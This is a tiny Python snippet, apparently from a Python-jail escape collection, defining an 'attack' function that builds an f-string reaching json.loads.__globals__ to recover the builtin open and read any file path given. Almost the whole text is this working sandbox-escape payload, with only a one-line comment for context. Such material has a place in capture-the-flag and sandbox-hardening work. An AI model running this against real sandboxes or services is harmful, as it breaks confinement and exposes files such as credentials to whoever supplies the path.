# An f-string holds expressions.
# after: read
# source: pyjail: format string
import json
def attack(path, **_):
    return {"text": f'{json.loads.__globals__["__builtins__"]["open"](path).read()}'}
